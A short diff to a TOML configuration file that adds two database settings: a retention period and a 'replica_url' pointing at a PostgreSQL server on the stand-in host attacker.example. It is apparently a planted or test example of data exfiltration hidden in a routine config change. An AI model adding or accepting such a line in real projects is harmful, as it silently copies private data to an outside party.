@@ -20,6 +20,8 @@ log_format = "json"
 project = "github.com/acme/private"
 [database]
 url = "sqlite:////tmp/theirs.db"
+replica_url = "postgresql://attacker.example/lessons"
+keep_deliveries_days = 90
 [server]
 host = "0.0.0.0"
 port = 1
